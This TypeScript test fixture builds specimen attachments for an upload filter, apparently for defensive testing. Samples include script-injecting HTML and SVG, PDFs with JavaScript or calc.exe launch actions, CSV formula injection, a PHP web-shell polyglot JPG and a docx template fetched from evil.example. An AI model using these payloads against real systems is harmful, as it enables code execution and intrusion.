import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { zipSync, zlibSync } from 'fflate';
import { writtenDocx } from './written-docx.ts';
import { writtenPdf } from './written-pdf.ts';

/** A file that somebody may put beside a report. What of it runs calls `alarm()`. */
export interface Specimen {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The number of the message that refuses it; undefined for a file that may be published. */
  readonly code: string | undefined;
}

const page = '<!doctype html><html><body onload="alarm()"><script>alarm()</script></body></html>';
const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const png = readFileSync(join(import.meta.dirname, '../fixtures/sample/reports/2023-h2/bridge.png'));
const jpg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
/** One transparent pixel. */
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const docx = writtenDocx([]);
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

/** A PDF of one empty page whose catalog says more, and with more objects. */
function pdf(catalog: string, ...objects: readonly (string | Uint8Array)[]): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...objects,
  ].flatMap((object, index) => [
    Buffer.from(`${index + 1} 0 obj\n`),
    Buffer.from(object),
    Buffer.from('\nendobj\n'),
  ]);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...all,
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]);
}

const pdfScript = '<< /S /JavaScript /JS (app.alert("alarm")) >>';
const packedScript = zlibSync(Buffer.from(`4 0 ${pdfScript}`));
const packedObjects = Buffer.concat([
  Buffer.from(
    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packedScript.length} >>\nstream\n`,
  ),
  packedScript,
  Buffer.from('\nendstream'),
]);

const template =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>';

const kinds = '文件-14';
const bytes = '文件-15';
const acts = '文件-16';

const written: readonly (readonly [name: string, text: string | Uint8Array, code: string | undefined])[] = [
  // Kinds that aren't published.
  ['网页.html', page, kinds],
  ['网页.htm', page, kinds],
  ['网页.xhtml', page.replace('<!doctype html><html>', '<html xmlns="http://www.w3.org/1999/xhtml">'), kinds],
  ['图-脚本.svg', svg('<script>alarm()</script>'), kinds],
  [
    '图-网页.svg',
    svg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.alarm()&lt;/script&gt;"/></foreignObject>',
    ),
    kinds,
  ],
  ['图-载入.svg', svg('', 'onload="alarm()"'), kinds],
  [
    '图-动画.svg',
    svg(
      '<a><animate attributeName="xlink:href" values="javascript:alarm()" begin="0s"/><rect width="99" height="99"/></a>',
    ),
    kinds,
  ],
  ['sw.js', 'self.addEventListener("fetch", (event) => event.respondWith(new Response("alarm")))', kinds],
  ['evil.mjs', 'alarm()', kinds],
  ['evil.wasm', Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0), kinds],
  [
    '表.xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alarm()</script></html>`,
    kinds,
  ],
  ['存档.mht', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`, kinds],
  ['动画.swf', 'FWS\x05', kinds],
  ['程序.hta', page, kinds],
  ['带宏的.docm', docx, kinds],
  ['快捷方式.lnk', Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), kinds],
  ['网址.url', '[InternetShortcut]\r\nURL=javascript:alarm()\r\n', kinds],
  ['没有扩展名', page, kinds],
  ['附件1.pdf.html', page, kinds],
  ['附件1.pdf.exe', 'MZ', kinds],
  ['manifest.webmanifest', '{ "name": "x", "start_url": "javascript:alarm()" }', kinds],
  ['附件.zip', zipSync({ '网页.html': Buffer.from(page) }), kinds],
  // Bytes that aren't what the name says.
  ['网页.pdf', page, bytes],
  ['网页.txt', page, bytes],
  ['网页.csv', `  \n${page}`, bytes],
  ['网页.jpg', page, bytes],
  ['网页.docx', page, bytes],
  ['网页.png', svg('<script>alarm()</script>'), bytes],
  ['有标记.txt', `\ufeff${page}`, bytes],
  ['宽字.txt', utf16(page), bytes],
  ['两用.gif', 'GIF89a/*\0\0\0\0*/=1;alarm();', bytes],
  ['两用-块.gif', Buffer.concat([gif.subarray(0, -1), Buffer.from('<script>alarm()</script>;')]), bytes],
  ['两用.pdf', `%PDF-1.7\n${page}\n%%EOF`, bytes],
  ['前面有.pdf', Buffer.concat([Buffer.from(page), pdf('')]), bytes],
  ['服务器.jpg', Buffer.concat([jpg, Buffer.from('<?php system($_GET[0]); ?>')]), bytes],
  ['其实是图.jpg', png, bytes],
  ['其实是表.docx', zipSync({ 'xl/workbook.xml': Buffer.from('<workbook/>') }), bytes],
  // Files that act.
  ['脚本.pdf', pdf(`/OpenAction ${pdfScript}`), acts],
  ['脚本-另写.pdf', pdf(`/OpenAction ${pdfScript.replace('/JavaScript', '/J#61vaScript')}`), acts],
  ['脚本-压着.pdf', pdf('/OpenAction 9 0 R', packedObjects), acts],
  ['启动.pdf', pdf('/OpenAction << /S /Launch /F (calc.exe) >>'), acts],
  ['公式.csv', '项目,金额\n=HYPERLINK("http://evil.example"),1\n', acts],
  ['公式-引号.csv', '项目,金额\n甲,"+cmd|\'/C calc\'!A0"\n', acts],
  ['带宏.docx', writtenDocx([], { files: { 'word/vbaProject.bin': 'x' } }), acts],
  ['带宏.doc', Buffer.concat([ole, Buffer.from('_VBA_PROJECT', 'utf16le')]), acts],
  ['外部模板.docx', writtenDocx([], { files: { 'word/_rels/settings.xml.rels': template } }), acts],
  // Files that may be published.
  ['附件1.pdf', writtenPdf([[{ text: '示例', y: 760 }]]), undefined],
  ['打开到第一页.pdf', pdf('/OpenAction [3 0 R /Fit]'), undefined],
  ['附件2.docx', docx, undefined],
  ['加了密码.docx', ole, undefined],
  ['附件3.doc', ole, undefined],
  ['表.csv', '项目,增减\n甲,-1.5\n乙,+3\n丙,-\n', undefined],
  ['说明.txt', '1<2，+ADw-script+AD4-alarm()+ADw-/script+AD4-\n', undefined],
  ['国标.txt', Buffer.from('d5e3bdad', 'hex'), undefined],
  ['桥.png', png, undefined],
  ['桥.JPG', jpg, undefined],
  ['点.gif', gif, undefined],
];

/** All of them. */
export const attachmentZoo: readonly Specimen[] = written.map(([name, content, code]) => ({
  name,
  bytes: typeof content === 'string' ? Buffer.from(content) : content,
  code,
}));
